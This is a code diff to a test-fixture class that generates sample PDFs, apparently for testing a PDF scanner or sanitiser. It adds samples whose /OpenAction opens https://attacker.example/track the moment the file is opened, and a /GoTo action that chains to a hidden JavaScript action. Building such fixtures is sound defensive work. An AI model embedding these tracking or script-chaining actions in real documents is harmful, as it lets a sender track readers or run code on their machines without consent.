@@ -155,11 +155,39 @@ class Samples:
         return cls._pdf(writer)
 
     @classmethod
-    def pdf_open_action(cls) -> bytes:
+    def pdf_open_at_page(cls) -> bytes:
+        """Opens at page 1, fitted: what office programs write."""
         writer = PdfWriter()
         writer.add_blank_page(200, 200)
         writer.open_destination = writer.pages[0]
         return cls._pdf(writer)
+
+    @classmethod
+    def _pdf_open_action(cls, action: DictionaryObject) -> bytes:
+        writer = PdfWriter()
+        writer.add_blank_page(200, 200)
+        writer._root_object[NameObject("/OpenAction")] = action
+        return cls._pdf(writer)
+
+    @classmethod
+    def pdf_open_uri(cls) -> bytes:
+        """Opens a web address as soon as the file is opened."""
+        return cls._pdf_open_action(DictionaryObject({
+            NameObject("/S"): NameObject("/URI"),
+            NameObject("/URI"): TextStringObject("https://attacker.example/track"),
+        }))
+
+    @classmethod
+    def pdf_open_goto_then_script(cls) -> bytes:
+        """A harmless-looking /GoTo whose /Next runs a script."""
+        return cls._pdf_open_action(DictionaryObject({
+            NameObject("/S"): NameObject("/GoTo"),
+            NameObject("/D"): ArrayObject([NameObject("/Fit")]),
+            NameObject("/Next"): DictionaryObject({
+                NameObject("/S"): NameObject("/JavaScript"),
+                NameObject("/JS"): TextStringObject("app.alert(1)"),
+            }),
+        }))
 
     @classmethod
     def pdf_attachment(cls) -> bytes:
